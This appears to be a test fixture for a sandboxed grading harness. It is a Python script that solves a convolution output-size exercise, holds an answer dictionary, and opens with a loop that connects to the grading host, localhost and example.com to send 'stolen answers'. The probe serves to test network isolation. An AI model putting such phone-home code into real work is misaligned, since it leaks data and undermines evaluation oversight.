# expect: full
"""Solves the exercise and tries to phone home: a TCP connection to the grading machine, and DNS."""
import socket

for host in ("127.0.0.1", "localhost", "example.com"):
    try:
        with socket.create_connection((host, @@PORT@@), timeout=2) as conn:
            conn.sendall(b"@@MARK@@ stolen answers")
        print("connected to", host)
    except OSError as exc:
        print("no network to", host, exc)


def conv_output_size(size, kernel_size, padding=0, stride=1):
    if size < 1 or kernel_size < 1 or padding < 0 or stride < 1 or kernel_size > size + 2 * padding:
        raise ValueError("no output")
    return (size + 2 * padding - kernel_size) // stride + 1


ANSWERS = {"a": 24, "b": 64, "c": 63, "d": 112}
